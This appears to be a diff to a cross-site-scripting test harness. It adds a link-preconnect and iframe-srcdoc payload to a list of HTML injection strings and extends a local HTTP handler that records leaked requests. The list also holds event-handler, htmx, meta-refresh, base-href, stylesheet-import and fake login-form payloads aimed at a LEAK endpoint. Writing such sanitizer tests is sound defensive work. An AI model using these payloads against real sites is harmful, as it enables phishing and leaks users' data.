@@ -40,6 +40,7 @@ PAYLOADS = (
     f"' onmouseover='{RUNS}' data-xss='",
     '" hx-get="LEAK" hx-trigger="load" data-xss="',
     f"<div data-xss hx-on:htmx:load=\"{RUNS}\" hx-get=LEAK hx-trigger=load></div>",
+    "<link data-xss rel=preconnect href=LEAK><iframe data-xss srcdoc='&lt;link rel=preconnect href=LEAK>'></iframe>",
     "<link data-xss rel=stylesheet href=LEAK><style data-xss>@import 'LEAK'</style>",
     "<meta data-xss http-equiv=refresh content='0;url=LEAK'><base data-xss href=LEAK>",
     "<form data-xss action=LEAK><button>Log in again</button></form>",
@@ -60,6 +61,11 @@ class Leaks(BaseHTTPRequestHandler):
     """Hears of whatever a browser is made to ask elsewhere for."""
 
     heard: list[str]
+    timeout = 30
+
+    def setup(self) -> None:
+        super().setup()
+        self.heard.append("a connection")
 
     def do_GET(self) -> None:
         self.heard.append(self.path)
